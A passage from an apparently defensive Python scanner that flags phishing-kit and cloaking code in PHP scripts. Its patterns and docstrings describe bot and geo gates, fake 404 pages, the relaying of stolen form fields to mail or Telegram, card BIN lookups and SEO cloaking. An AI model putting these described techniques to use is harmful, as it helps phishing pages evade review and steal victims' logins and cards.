    names = bool(ctx.lx.escaped) or prefiltered_search(_SECURITY_NAMES, text) is not None
    for idx in _antibot_candidates(ctx, text):
        lit = value(idx).lower().strip()
        if len(lit) > 4000:
            continue
        found = _SECURITY_NAMES.findall(lit) if names else []
        if len(lit) > 200:  # a long literal counts by the names it lists, not as a prefix
            vendors.update(found)
            continue
        if found:  # every name: a kit's list may be one long literal ("'Googlebot', 'Netcraft'...")
            vendors.update(found)
        else:
            if _IP_PREFIX.match(lit):
                prefixes += 1
            if _CRAWLER_NET.match(lit) and _RANGE_FORM.search(lit):
                crawler_nets += 1
                first_net = idx if first_net < 0 else first_net
    at = max(0, ctx.first(b"remote_addr"), ctx.first(b"gethostbyaddr"))
    if not vendors - _SEO_CRAWLERS:
        vendors = set()  # SEO crawlers only: a site's bandwidth guard (a kit names scanners)
    if len(vendors) < 2 and prefixes < 5 and crawler_nets < 3:
        return _fake_error_gate(ctx, text, at) or _platform_refusal(ctx, text)
    if vendors:
        what = b", ".join(sorted(vendors)[:4])
    elif prefixes >= 5:
        what = b"%d IP prefixes" % prefixes
    else:
        what = b"%d ranges of Google's and Microsoft's crawlers" % crawler_nets
        return Hit(ctx.line_of_string(first_net), excerpt(b"refuses " + what))
    return Hit(ctx.line_of_code(at), excerpt(b"refuses " + what))


# the words of automated clients: crawlers, scrapers, HTTP libraries, headless browsers
_BOT_WORD = tight(
    rb"bot|crawl(?:er)?|spider|slurp|curl|wget|python|scrapy|headless|phantomjs|httpclient|"
    rb"libwww|go-http|java|facebookexternalhit|ahrefs|semrush|archiver?|preview|scanner"
)
# a fake "not found" given as the answer: the status line of a 404
_FAKE_404 = tight(rb"^(?:http/\d(?:\.\d)?|status:)\s*404\b")
_STATUS_404 = tight(rb"http_response_code\s*\(\s*404\s*\)")


def _bot_list_end(ctx: Ctx) -> int:
    """Where (code offset) a list of three or more automated-client words ends: literals
    that are one such word each ('bot', 'curl'), or a pattern of them ('/bot|crawl|spider/i');
    -1 if the script names fewer."""
    n = 0
    value = ctx.lx.value
    for p in itertools.islice(PLACEHOLDER.finditer(ctx.code), 3000):
        lit = value(int(p.group(1))).lower().strip()
        if len(lit) > 300:
            continue
        if _BOT_WORD.fullmatch(lit):
            n += 1
        elif find(lit, b"|") >= 0:
            n += sum(1 for w in re.split(rb"[|/()^$]", lit) if _BOT_WORD.fullmatch(w.strip()))
        if n >= 3:
            return p.end()
    return -1


@feature("bot_list_fake_404")
def _bot_list_fake_404(ctx: Ctx, rule: Rule) -> Hit | None:
    """The user agent compared with three or more words of automated clients (bot, crawl,
    curl, python, headless...) and, in the test's block just after the list, a "404 Not
    Found" status and an exit: a page that pretends not to exist for the crawlers and
    scanners that would report it (a site that keeps bots out says 403; a router's 404 for
    an unknown page is no answer to a list of bots)."""
    text = string_text(ctx)
    if find(text, b"http_user_agent") < 0 or (find(text, b"404") < 0
                                              and find(ctx.code, b"404") < 0):
        return None
    listed = _bot_list_end(ctx)
    if listed < 0:
        return None
    code = ctx.code
    window = code[listed : listed + 400]
    fake = -1
    for p in itertools.islice(PLACEHOLDER.finditer(window), 40):
        if _FAKE_404.match(ctx.lx.value(int(p.group(1))).lower().strip()):
            fake = listed + p.start()
            break
    if fake < 0:
        m = _STATUS_404.search(window)
        fake = listed + m.start() if m else -1
    if fake < 0:
        return None
    # the test whose block holds the 404 compares the agent (not a router's page lookup)
    tests = [m.end() for m in _IF_WORD.finditer(code, listed, fake)]
    if not tests:
        return None
    cond = code[tests[-1] : tests[-1] + close_paren(code[tests[-1] : fake])]
    if _AGENT_TEST.search(cond) is None:
        return None
    if _ENDS.search(code, fake, fake + 200) is None:
        return None
    return Hit(ctx.line_of_code(fake), ctx.excerpt_code(fake, fake + 60))


_IF_WORD = tight(rb"(?<![\w$>:])if\s*\(")
_AGENT_TEST = tight(
    rb"(?<![\w$>:])(?:stripos|strpos|stristr|strstr|preg_match|in_array|substr_count|"
    rb"str_contains|str_starts_with|str_ends_with)\s*\("
)


def _fake_error_gate(ctx: Ctx, text: bytes, at: int) -> Hit | None:
    """A gate that tests the visitor's address, host name or agent (looks it up, compares
    it with a list) and answers with a web server's own error page written into the script
    (a fake "404 Not Found", "You don't have permission to access / on this server")."""
    fake = prefiltered_search(_FAKE_SERVER_ERROR, text)
    if fake is None or prefiltered_search(_VISITOR_TESTS, ctx.code, ctx.first) is None:
        return None
    where = string_at(ctx, fake.start())
    line = ctx.line_of_string(where) if where >= 0 else ctx.line_of_code(at)
    return Hit(line, excerpt(b"tests the visitor, then fakes a server error: " + fake.group(0)))


# what a gate's refusal does: stop the script, or send the visitor elsewhere
_REFUSES = tight(rb"(?<![\w$>:])(?:die|exit)\b|(?<![\w$>:])header\s*\(")
_TEST_OPENS = tight(rb"(?<![\w$>:])(?:if|elseif)\s*\(")


# the visitor's platform given by a helper of the kit's own: $c->getOS() == "Linux"
_OS_HELPER = tight(
    rb"(?<![\w$])(?:get_?)?(?:os|platform|operating_?system)(?:_?name)?\s*\(\s*\)\s*===?\s*$"
)


def _platform_refusal(ctx: Ctx, text: bytes) -> Hit | None:
    """A gate that names the visitor's operating system from the user agent and refuses
    Linux desktops (``if ($os == "Linux") die(...)``, with the unknown browsers and the
    bot lookups of the same test): the scanners and crawlers that would report a kit run
    on Linux servers, its victims on phones and Windows. No site turns Linux users away."""
    if find(text, b"linux") < 0:
        return None
    agent = find(text, b"http_user_agent") >= 0
    code = ctx.code
    value = ctx.lx.value
    for p in itertools.islice(PLACEHOLDER.finditer(code), 3000):
        if value(int(p.group(1))).lower().strip() != b"linux":
            continue
        if re.search(rb"(?<![!<>])===?\s*$", code[max(0, p.start() - 8) : p.start()]) is None:
            continue  # an equality test of a platform's name, not a pattern or a != test
        if not agent and _OS_HELPER.search(code, max(0, p.start() - 40), p.start()) is None:
            continue  # no user agent read here: the platform must come from a getOS() helper
        # a long list of platforms (one per line) may open its test far before
        opened = [t.end() for t in _TEST_OPENS.finditer(code, max(0, p.start() - 600), p.start())]
        if not opened or find(code, b";", opened[-1], p.start()) >= 0:
            continue
        # one of several reasons to refuse (|| the unknown browsers, the bot lookups): a
        # download page sending Linux users to their package tests Linux alone
        test = code[opened[-1] : p.start() + 300]
        if test[: close_paren(test)].find(b"||") < 0:
            continue
        if _REFUSES.search(_block_after(code, opened[-1], 1200)) is not None:
            return Hit(ctx.line_of_code(p.start()),
                       excerpt(b"refuses visitors whose platform is Linux"))
    return None


# web services that tell who owns an IP address (organisation, ASN, country, proxy or not)
_IP_INTEL = tight(
    rb"ipinfo\.io|ip-api\.com|ipapi\.co|geoplugin\.net|ipwhois\.|ipqualityscore\.com|"
    rb"proxycheck\.io|ipgeolocation\.io|ipdata\.co|extreme-ip-lookup\.com|ipregistry\.co|"
    rb"iphub\.info|getipintel\.net|ip2location\.io|db-ip\.com|ipstack\.com|abstractapi\.com"
)
# the networks a cloaker keeps away from its real page: the companies whose reviewers, crawlers
# and scanners visit links (ad and mail platforms, clouds, security vendors)
_REVIEWER_NAMES = (
    rb"google|facebook|amazon|microsoft|linode|digitalocean|ovh|hetzner|vultr|choopa|"
    rb"leaseweb|softlayer|cloudflare|kaspersk\w*|mcafee|symantec|norton|eset|avast|sophos|"
    rb"bitdefender|trendmicro|fortinet|paloalto|zscaler|forcepoint|proofpoint|mimecast|"
    rb"barracuda|phishtank|netcraft|tor"
)


# where a kit's geo gate sends the visitors of the countries it does not target: a fake
# "404 Not Found", or away to a big site of no relation to the page (a site's own geo redirect
# sends them to its own pages; a site's own geo block says so, with a 403)
_GEO_REFUSAL = tight(
    rb"404 not found|location:\s*https?://(?:www\.)?(?:google|youtube|bing|yahoo|imgur|"
    rb"wikipedia|microsoft|apple|amazon|facebook|live|outlook|office|msn|translate\.google)\."
)


# what a gate reads of the lookup's answer: the country, or whether the address is a proxy,
# a VPN, a hosting provider's (a crawler's or a scanner's machine)
_GEO_FIELD = tight(rb"country|proxy|hosting|\x00vpn\x00|\x00tor\x00|is_bot|isbot")


def _geo_gate(ctx: Ctx, text: bytes, intel: re.Match[bytes]) -> Hit | None:
    """A kit's geo gate: the visitor's address looked up at an IP-geolocation service, its
    country compared, and the others sent to a fake "404 Not Found" or away to an unrelated
    big site (google.com, youtube.com): the page shows only to the targeted country's
    visitors and hides from the reviewers elsewhere."""
    if _GEO_FIELD.search(text) is None and ctx.first(b"country") < 0:
        return None
    refusal = prefiltered_search(_GEO_REFUSAL, text)
    if refusal is None:
        return None
    return string_hit(ctx, intel, shown=intel.group(0) + b" country -> " + refusal.group(0))


# what a kit attaches to each victim's fields: where the visitor is, from a geolocation
# service (the services that tell who owns an address, and the lookup links of a results
# mail: geoiptool.com/?IP=..., api.ip.sb/geoip/...)
_GEO_LOOKUP = tight(
    _IP_INTEL.pattern + rb"|geoiptool\.com|ip\.sb/geoip|freegeoip\.|ipapi\.com|iplocation\.net"
)
_FORM_READS = (b"$_post", b"$_get", b"$_request")
_SENDS_OUT = (b"mail", b"fwrite", b"fputs", b"file_put_contents", b"curl_exec")


# where a literal sends the browser: header("Location: URL"), location = 'URL' in a script,
# a meta refresh; the URL is a whole web address, its host and then its path
_SENT_TO = tight(
    rb"(?:^\s*location\s*:\s*|\blocation(?:\.href)?\s*=\s*['\"]|"
    rb"\blocation\.(?:replace|assign)\s*\(\s*['\"]|\burl\s*=\s*['\"]?)"
    rb"https?://([a-z0-9-]+)(?:\.[a-z0-9-]+)+(?::\d+)?(/[^'\"\s<>;]*)?(['\"\s<>;]|$)"
)
# a sign-in page by its path ("/signin", "/login.srf") or its host ("login.", "accounts.")
_SIGN_IN_PATH = tight(rb"log_?in|sign_?in|signon|logon|auth|/account")
_SIGN_IN_HOST = frozenset({b"login", b"signin", b"auth", b"accounts", b"account", b"secure"})
# a site's front page or sign-in page: "/", "/en-US/home.shtml", "/login.srf?...", "/signin"
_FRONT_OR_SIGN_IN = tight(
    rb"^/?$|^/(?:[a-z]{2}(?:[-_][a-z]{2})?/)?(?:index|home)\b|"
    rb"log_?in|sign_?in|signon|logon|auth|/account|^/mail\b"
)


def _genuine_site_redirect(
    ctx: Ctx, after: int, sign_in_only: bool = False, brand_front: bool = False
) -> int:
    """Where, after code offset ``after``, a literal sends the browser to another site's front
    or sign-in page (``sign_in_only``: its sign-in page; ``brand_front``: its sign-in page,
    or the front page of a service phishing pages imitate), written whole (nothing glued
    onto the address); -1 if none does."""
    raw = ctx.lx.raw_strings
    code = ctx.code
    for q in itertools.islice(PLACEHOLDER.finditer(code, after), 200):
        lit = raw[int(q.group(1))].lower()
        if find(lit, b"http") < 0:
            continue
        m = _SENT_TO.search(lit)
        if m is None:
            continue
        # the page's path, without its query ("?authorId=..." names no sign-in page)
        path = (m.group(2) or b"/").split(b"?", 1)[0]
        if sign_in_only or brand_front:
            if _SIGN_IN_PATH.search(path) is None and m.group(1) not in _SIGN_IN_HOST and not (
                brand_front
                and _FRONT_OR_SIGN_IN.search(path) is not None
                and _BRAND.search(lit[m.start(1) : m.end(1) + 40].split(b"/", 1)[0]) is not None
            ):
                continue
        elif _FRONT_OR_SIGN_IN.search(path) is None:
            continue
        # header('Location: https://x/') is the whole argument: nothing glued on after it
        if m.group(3) == b"" and code[q.end() : q.end() + 8].lstrip()[:1] == b".":
            continue
        return q.start()
    return -1


# a whole form array packed into a text: http_build_query($_POST), json_encode(array_merge(
# $_REQUEST, [...])), print_r($_POST, true), implode("\n", $_POST)
_WHOLE_FORM_PACKED = tight(
    rb"(?:http_build_query|json_encode|serialize|print_r|var_export|implode|join)\s*\(\s*"
    rb"(?:[^;()]{0,40},\s*)?(?:array_merge\s*\(\s*)?\$_(?:post|get|request)\b\s*[,)]"
)


@feature("victim_sent_away")
def _victim_sent_away(ctx: Ctx, rule: Rule) -> Hit | None:
    """A phishing kit's results handler, whatever its fields are called: form fields sent to
    a fixed place (mailed to a literal address, posted to a chat bot or a literal web
    address, appended to a file) in a script that names the visitor's address or browser,
    and then the visitor sent to another site's front or sign-in page written whole (the
    genuine bank or mail service, so that the victim believes the login went through). A
    site's own form thanks its visitor on its own pages, or sends them to a payment page;
    a sign-in of its own checks the password (:func:`_auth_used`)."""
    text = string_text(ctx)
    if find(text, b"http") < 0 or _auth_used(ctx):
        return None
    named = _visitor_named(text)
    for start, sent in _drops(ctx):
        # a file the site keeps is not sending the fields away (a guest book, an order list),
        # unless the visitor is then sent to another site's sign-in page (a kit's results log)
        kept = ctx.code.startswith(_FILE_WRITES, start)
        text = _sent_text(ctx, sent, 3)
        if named and _request_keys(ctx, text):
            at = _genuine_site_redirect(ctx, start, sign_in_only=kept)
        elif _WHOLE_FORM_PACKED.search(text) is not None:
            # every field packed whole (http_build_query($_POST), print_r($_POST, true)),
            # sent away or appended to a log: a form relaying to a CRM does that too, so only
            # when the visitor is then sent to a sign-in page or to the front page of a
            # service phishing pages imitate (the visitor named or not)
            at = _genuine_site_redirect(ctx, start, brand_front=True)
        else:
            continue
        if at >= 0:
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


@feature("victim_geolocated")
def _victim_geolocated(ctx: Ctx, rule: Rule) -> Hit | None:
    """A phishing kit's results handler, whatever the fields are called: the visitor's own
    address looked up at an IP-geolocation service (or made into a geoiptool lookup link),
    in a script that reads form fields and mails them, writes them to a file, or posts them
    (curl, a Telegram bot's address). A site that locates its visitors does so for its pages,
    not in the handler that sends what they typed to someone."""
    text = string_text(ctx)
    geo = prefiltered_search(_GEO_LOOKUP, text)
    if geo is None or not _visitor_named(text):
        return None
    if not has_any(ctx, _FORM_READS):
        return None
    if not called_any(ctx, _SENDS_OUT) and find(text, b"api.telegram.org/bot") < 0:
        return None
    return string_hit(
        ctx, geo, shown=b"the visitor located at " + geo.group(0) + b", form fields sent out"
    )


# services that name the bank and type of a card from its first digits (the BIN)
_CARD_BIN_LOOKUP = tight(rb"binlist\.(?:net|io)|bincodes\.com|bins\.su|binlookup")
_CARD_INPUT = (b"$_post", b"$_get", b"$_request", b"$_session")
_FETCHES = (b"file_get_contents", b"curl_exec", b"fopen", b"simplexml_load_file")


@feature("card_bin_lookup")
def _card_bin_lookup(ctx: Ctx, rule: Rule) -> Hit | None:
    """Card numbers typed into a form (or kept from one in the session) looked up at a BIN
    service to name the issuing bank: a carding kit rates the cards it collects (a shop
    hands the number to its payment provider, it does not look up banks itself)."""
    text = string_text(ctx)
    found = _CARD_BIN_LOOKUP.search(text)
    if found is None or not has_any(ctx, _CARD_INPUT) or not called_any(ctx, _FETCHES):
        return None
    return string_hit(ctx, found, shown=b"card numbers looked up at " + found.group(0))


_NET_ENTRY = tight(rb"(?:as\d+[\s-]*)?(" + _REVIEWER_NAMES + rb")(?:[\s.,-]+[a-z.]+)?")


@feature("visitor_network_gate")
def _visitor_network_gate(ctx: Ctx, rule: Rule) -> Hit | None:
    """A cloaker's gate: the visitor's address is looked up at an IP-ownership service
    (ipinfo.io, ip-api.com...) and the owner compared with three or more of the networks
    whose reviewers and scanners check links (Google, Facebook, Amazon, Microsoft, security
    vendors), with a redirect, a fake error or an exit: those visitors see a decoy, everyone
    else the real page (ad or phishing cloaking, a traffic filter). A site's own geolocation
    compares countries or languages, not the owners' names."""
    text = string_text(ctx)
    intel = prefiltered_search(_IP_INTEL, text)
    if intel is None or not _visitor_named(text):
        return None
    if prefiltered_search(_GATE_ACTION, text) is None and not (
        has_word(ctx, b"exit") or has_word(ctx, b"die")
    ):
        return None
    # three or more of them listed together (within 400 bytes of code): a list, not a page
    # that happens to name Google and Facebook (its sign-in buttons) somewhere
    seen: collections.deque[tuple[int, bytes]] = collections.deque()
    count: collections.Counter[bytes] = collections.Counter()
    nets: set[bytes] = set()
    value = ctx.lx.value
    for p in itertools.islice(PLACEHOLDER.finditer(ctx.code), 5000):
        lit = value(int(p.group(1)))
        if not 2 < len(lit) <= 40:
            continue
        # a list entry is the name itself ("google", "AS15169 Google", "microsoft
        # corporation"), not a sentence that holds it ("Sign in with Google")
        m = _NET_ENTRY.fullmatch(lit.lower().strip())
        if m is None:
            continue
        seen.append((p.start(), m.group(1)))
        count[m.group(1)] += 1
        while p.start() - seen[0][0] > 400:  # only the entries of the last 400 bytes
            gone = seen.popleft()[1]
            count[gone] -= 1
            if not count[gone]:
                del count[gone]
        if len(count) >= 3:
            nets = set(count)
            break
    if len(nets) < 3:
        return _geo_gate(ctx, text, intel)
    refused = b", ".join(sorted(nets)[:4])
    return string_hit(ctx, intel, shown=intel.group(0) + b" -> refuses " + refused)



# a country compared: `$cc == 'RU'`, `'TR' === $country`, `$geo['country'] != "Indonesia"`
_COUNTRY_CMP = tight(
    rb"(\$\w+(?:\s*(?:\[[^\]\[;]{0,40}\]|->\s*\w+))*)\s*(?:[!=]==?|<>)\s*\x01(\d+)\x01|"
    rb"\x01(\d+)\x01\s*(?:[!=]==?|<>)\s*(\$\w+(?:\s*(?:\[[^\]\[;]{0,40}\]|->\s*\w+))*)"
)
# a country as a literal: an ISO code ("RU") or a name ("Indonesia", "United States")
_COUNTRY_LITERAL = tight(rb"[A-Z]{2}|[A-Z][a-z]{2,20}(?: [A-Z][a-z]{1,20}){0,2}")
# what a gate does to the visitors its test picks: stops, serves another file, redirects
_GATE_DOES = tight(
    rb"(?<![\w$>:])(?:exit|die|header|require|include|require_once|include_once)\b"
)
_JS_REDIRECT = tight(rb"(?:window|document|top)\.location|location\.(?:href|replace)")
# a site's own geo block says so: a 403 and its own words
_HONEST_BLOCK = tight(rb"403|forbidden|access denied|not available in your|cannot sell")
# the user agent tested for a search engine's crawler
_CRAWLER_WORD = tight(rb"googlebot|bingbot|crawler|spider|\x00google\x00|\x00bot\x00|\bbot\|")


def _country_var(ctx: Ctx, operand: bytes) -> bool:
    """The compared operand holds the country the lookup answered: its code or a literal key
    of it names a country (``$countrycode``, ``$geo['country']``), or it is a variable set
    from one (``$ulke = $data->countryCode;``)."""
    if ctx.restore(operand).lower().find(b"country") >= 0:
        return True
    m = VAR.match(operand)
    if m is None:
        return False
    return any(ctx.restore(a.group(1)).lower().find(b"country") >= 0
               for _, a in var_assigns(ctx.code, m.group(1), TAIL_RHS, 5))


@feature("geo_gate_kit")
def _geo_gate_kit(ctx: Ctx, rule: Rule) -> Hit | None:
    """A kit's or cloaker's country gate: the visitor's address looked up at an
    IP-geolocation service, the country it answers compared with literal countries, and the
    visitors a comparison picks stopped, served another file or redirected, with a sign that
    the gate hides something: the same answer for two or more countries (a block list that
    serves a decoy file or stops, not a site's own 403), a crawler test in the same script
    (search engines and people shown different pages), or a redirect written as JavaScript
    by the gate. A site's own geolocation picks a currency or a store per country."""
    text = string_text(ctx)
    intel = prefiltered_search(_IP_INTEL, text)
    if intel is None or not _visitor_named(text):
        return None
    code = ctx.code
    if find(text, b"country") < 0 and find(code, b"country") < 0:
        return None
    crawler = find(text, b"http_user_agent") >= 0 and _CRAWLER_WORD.search(text) is not None
    honest = _HONEST_BLOCK.search(text) is not None
    blocks: collections.Counter[bytes] = collections.Counter()
    for m in itertools.islice(_COUNTRY_CMP.finditer(code), 200):
        idx, operand = (m.group(2), m.group(1)) if m.group(2) else (m.group(3), m.group(4))
        if _COUNTRY_LITERAL.fullmatch(ctx.lx.value(int(idx)).strip()) is None:
            continue
        if not _country_var(ctx, operand):
            continue
        block = _block_after(code, m.end())
        acts = _GATE_DOES.search(block) is not None
        js = any(_JS_REDIRECT.search(ctx.lx.value(int(p.group(1))).lower())
                 for p in itertools.islice(PLACEHOLDER.finditer(block), 20))
        if not (acts or js):
            continue
        why = b""
        if crawler:
            why = b"crawlers tested too"
        elif js:
            why = b"redirect written as JavaScript"
        elif not honest and _BLOCK_STOPS.search(block) is not None:
            said = ctx.restore(block.strip())
            blocks[said] += 1
            if blocks[said] >= 2:
                why = b"the same answer for two or more countries"
        if why:
            return Hit(ctx.line_of_code(m.start()), excerpt(
                intel.group(0) + b" country gate: " + why))
    return None


# a block list's answer: stop, or serve another file (a decoy page)
_BLOCK_STOPS = tight(
    rb"(?<![\w$>:])(?:exit|die|require|include|require_once|include_once)\b"
)


# an exact literal address given to a download: file_get_contents('https://x/'), curl_init("...")
_LITERAL_FETCH = tight(
    rb"(?<![\w$>:])(?:file_get_contents|curl_init|readfile|fopen)\s*\(\s*\x01(\d+)\x01\s*[,)]"
)
_ENDS = tight(rb"(?<![\w$>:])(?:exit|die)\b")
# what may follow the fetch when it is the script's last work: the rest of its statement, an
# echo or print of what it got, and the closing of the blocks (a "?>" lexes as ";")
_LAST_WORK = tight(rb"[^;{}]*;(?:\s*(?:echo|print)\b[^;{}]*;)?[\s};]*")
_IF_OPENS = tight(rb"(?<![\w$>:])if\s*\([^;{}]{1,200}\)\s*$")


def _last_in_if(ctx: Ctx, m: re.Match[bytes]) -> bool:
    """The fetch at ``m`` (and the print of what it got) is the last work of the script, in
    the block of an ``if`` (``if (is_bot()) { echo file_get_contents('https://...'); }`` at
    the end of the file): the crawler's answer is the remote page, nothing of the site
    follows it, as with an exit. A function's body (a feed helper) is no ``if`` block, and
    the ``if`` must test for a crawler (a site's own widget at the end of a page does not)."""
    code = ctx.code
    rest = code[m.end() :]
    if len(rest) > 400 or _LAST_WORK.fullmatch(rest) is None:
        return False
    opened = code.rfind(b"{", 0, m.start())
    test = _IF_OPENS.search(code, max(0, opened - 220), opened) if opened >= 0 else None
    return test is not None and _crawler_test(ctx, test.group(0))


def _crawler_test(ctx: Ctx, cond: bytes) -> bool:
    """The condition ``cond`` tests the visitor for a crawler: it reads the user agent or
    names a crawler, or calls a function of the file whose body does."""
    value = ctx.lx.value

    def names_one(text: bytes) -> bool:
        if find(text, b"user_agent") >= 0:
            return True
        return any(
            (v := value(int(q.group(1))).lower()).find(b"user_agent") >= 0
            or _CRAWLERS.search(v) is not None
            for q in itertools.islice(PLACEHOLDER.finditer(text), 40)
        )

    if names_one(cond):
        return True
    bodies = function_bodies(ctx)
    return any(
        names_one(bodies.get(c.group(1), b""))
        for c in itertools.islice(_CALLED.finditer(cond), 8)
    )


_CALLED = tight(rb"(?<![\w$>:])([a-z_\x80-\xff][\w\x80-\xff]*)\s*\(")


@feature("crawler_remote_served")
def _crawler_remote_served(ctx: Ctx, rule: Rule) -> Hit | None:
    """SEO cloaking: a script that names search-engine crawlers (Googlebot...) and reads the
    user agent, fetches a fixed web page (one literal address: not the visitor's URL, which
    a prerendering service would be given) and prints it, then stops: the crawler indexes the
    operator's page under this site's name, visitors get the site. However the crawler test
    is written (a helper is_google_bot(), a loop over a list)."""
    text = string_text(ctx)
    if find(text, b"user_agent") < 0 or prefiltered_search(_CRAWLERS, text) is None:
        return None
    code = ctx.code
    value = ctx.lx.value
    for m in itertools.islice(prefiltered_finditer(_LITERAL_FETCH, code, ctx.first), 20):
        url = value(int(m.group(1))).lower().lstrip()
        if not url.startswith(WEB_SCHEMES[:2]):
            continue
        window = code[max(0, m.start() - 120) : m.end() + 400]
        if _SERVE.search(window) is None:
            continue
        if _ENDS.search(code, m.end(), m.end() + 400) is None and not _last_in_if(ctx, m):
            continue
        # printed: echo of the fetch, or of the variable given what it returned
        head = code[max(0, m.start() - 40) : m.start()]
        printed = re.search(rb"(?:echo|print)\s*\(?\s*@?$", head) is not None
        if not printed:
            got = re.search(rb"\$(\w+)\s*=\s*@?$", head)
            out = re.search(rb"\$(\w+)\s*=\s*(?:@?curl_exec|@?file_get_contents)",
                            code[m.end() : m.end() + 400])
            names = {g.group(1) for g in (got, out) if g is not None}
            printed = any(
                re.search(rb"(?:echo|print)\s*\(?\s*\$" + re.escape(n) + rb"\b",
                          code[m.end() : m.end() + 400]) is not None
                for n in names
            )
        if printed:
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 80))
    return _crawler_block_prints_fetch(ctx)


# the first statement of a block prints a variable, or a fetch of one literal or variable
_PRINTS_HELD = tight(rb"\{?\s*(?:echo|print)\s*\(?\s*@?\$(\w+)\s*\)?\s*;")
_PRINTS_FETCH = tight(
    rb"\{?\s*(?:echo|print)\s*\(?\s*@?([a-z_]\w*)\s*\(\s*(\x01\d+\x01|\$\w+)\s*\)\s*\)?\s*;"
)
_IF_START = tight(rb"(?<![\w$>:])if\s*\(")
_FETCH_CALL = tight(rb"\s*@?([a-z_]\w*)\s*\(\s*(\x01\d+\x01|\$\w+)\s*\)\s*")


def _fixed_fetch(ctx: Ctx, fn: bytes, arg: bytes, bodies: dict[bytes, bytes]) -> bool:
    """``fn(arg)`` fetches one fixed address: file_get_contents() or a function of the
    file's own that runs curl or file_get_contents, given a literal or a variable the script
    sets once to a literal (not the visitor's URL, as a prerendering service is)."""
    if fn != b"file_get_contents":
        body = bodies.get(fn, b"")
        if find(body, b"curl_exec") < 0 and find(body, b"file_get_contents") < 0:
            return False
    v = VAR.fullmatch(arg.strip())
    if v is not None:
        given = var_assigns(ctx.code, v.group(1), TAIL_RHS, 3)
        if len(given) != 1:
            return False
        arg = given[0][1].group(1).strip()
    lit = PLACEHOLDER.fullmatch(arg.strip())
    if lit is None:
        return False
    url = ctx.lx.value(int(lit.group(1)))
    return url.find(b"$") < 0


def _crawler_block_prints_fetch(ctx: Ctx) -> Hit | None:
    """The first work of the block of a test that names crawlers (not negated) is to print a
    page fetched from one fixed address (``echo file_get_contents('https://...')``, or
    ``echo $page`` of a ``$page = fetch($url)`` made before the test), and the block stops
    the script or an ``else`` serves the site: crawlers index the operator's page."""
    code = ctx.code
    bodies: dict[bytes, bytes] | None = None
    for c in itertools.islice(prefiltered_finditer(_IF_START, code, ctx.first), 100):
        span = code[c.end() : c.end() + 300]
        cond = span[: close_paren(span)]
        named = _names_crawlers(ctx, cond) or _held_crawler_list(ctx, cond)
        if not named and (_NOT.search(cond) is not None or not _crawler_flag(ctx, cond)):
            continue
        block = _block_after(code, c.end())
        end = find(code, block, c.end()) + len(block)
        if _ENDS.search(block) is None and not code[end : end + 40].lstrip().startswith(b"else"):
            continue
        if bodies is None:
            bodies = function_bodies(ctx)
        if _prints_fetch(ctx, block, code[: c.start()], bodies):
            return Hit(ctx.line_of_code(c.start()), ctx.excerpt_code(c.start(), c.start() + 100))
    return None


def _held_crawler_list(ctx: Ctx, cond: bytes) -> bool:
    """``cond`` (not negated) tests a variable that the script sets once, to one literal
    naming search-engine crawlers (``$match = '/(googlebot|bingbot|slurp)/i'; ...
    preg_match($match, $ua)``): the crawler list held apart from the test."""
    if _NOT.search(cond) is not None:
        return False
    value = ctx.lx.value
    for v in itertools.islice(VAR.finditer(cond), 4):
        given = var_assigns(ctx.code, v.group(1), TAIL_RHS, 3)
        if len(given) != 1:
            continue
        lit = PLACEHOLDER.fullmatch(given[0][1].group(1).strip())
        if lit is not None and _CRAWLERS.search(value(int(lit.group(1))).lower()) is not None:
            return True
    return False


# what a cloaker may do before it prints, changing nothing of what is printed: wait a
# moment (usleep(rand(...)), a crawler's fetch looks unhurried), set a header or the output
# buffer: at most three such statements
_PACING = tight(
    rb"\{?\s*(?:@?(?:usleep|sleep|header|http_response_code|ob_start|ob_clean|"
    rb"ob_end_clean|set_time_limit)\s*\([^;{}]{0,120}\)\s*;\s*){1,3}"
)


def _prints_fetch(ctx: Ctx, block: bytes, before: bytes, bodies: dict[bytes, bytes]) -> bool:
    """``block`` first prints a fixed fetch (:func:`_fixed_fetch`), made in the print or
    into the variable it prints earlier (in ``before``); a pause, a header or the output
    buffer set first (:data:`_PACING`) do not count as other work."""
    pace = _PACING.match(block)
    if pace is not None:
        block = block[pace.end() :]
    f = _PRINTS_FETCH.match(block)
    if f is not None:
        return _fixed_fetch(ctx, f.group(1), f.group(2), bodies)
    h = _PRINTS_HELD.match(block)
    if h is None:
        return False
    for _, a in var_assigns(before, h.group(1), TAIL_RHS, 3):
        g = _FETCH_CALL.fullmatch(a.group(1))
        if g is not None and _fixed_fetch(ctx, g.group(1), g.group(2), bodies):
            return True
    return False


# a local page given by one literal, printed or included as the answer: echo
# file_get_contents('readme.txt'), readfile(__DIR__ . '/home.html'), include 'readme.html'
_LOCAL_PAGE = tight(
    rb"(?:(?:echo|print)\s*\(?\s*@?file_get_contents|(?<![\w$>:])@?readfile|"
    rb"(?<![\w$>:])(?:include|require)(?:_once)?)\s*\(?\s*"
    rb"(?:(?:__dir__|dirname\s*\(\s*__file__\s*\))\s*\.\s*)?\x01(\d+)\x01\s*\)?\s*;"
)
# a local page given by one literal, as above, or read by readfile/file_get_contents
_PAGE_NAMED = tight(
    rb"(?:file_get_contents|readfile|include|require)(?:_once)?\s*\(?\s*"
    rb"(?:(?:__dir__|dirname\s*\(\s*__file__\s*\))\s*\.\s*)?\x01(\d+)\x01"
)


# headers sent before the page: they print nothing, so the page is still the block's work
_HEADERS_SENT = tight(rb"(?:(?<![\w$>:])@?header\s*\(\s*\x01\d+\x01\s*\)\s*;\s*){1,4}$")


def _block_head(code: bytes, at: int) -> bytes:
    """The 260 bytes of code before ``at``, without trailing blanks and without the
    ``header('Content-Type: ...');`` calls made just before it."""
    head = code[max(0, at - 260) : at].rstrip()
    sent = _HEADERS_SENT.search(head)
    return head[: sent.start()].rstrip() if sent is not None else head


def _same_page_for_people(ctx: Ctx, end: int, name: bytes) -> bool:
    """What people get after the crawler's block (its ``else`` or the script's next work,
    in the next 400 bytes from ``end``) is a local page of the same file name as ``name``
    in another folder (``static/index.html`` for crawlers, ``index.html`` for people): a
    prerendered copy of the page people see (dynamic rendering), not another page. A
    doorway serves crawlers a page of its own, whatever its name (sitemap.html, a
    "snapshot"), and lets people through to the site."""
    folder, _, leaf = name.rstrip(b"/").rpartition(b"/")
    if not leaf:
        return False
    value = ctx.lx.value
    code = ctx.code
    for m in itertools.islice(_PAGE_NAMED.finditer(code, end, end + 400), 4):
        other = value(int(m.group(1))).lower().strip()
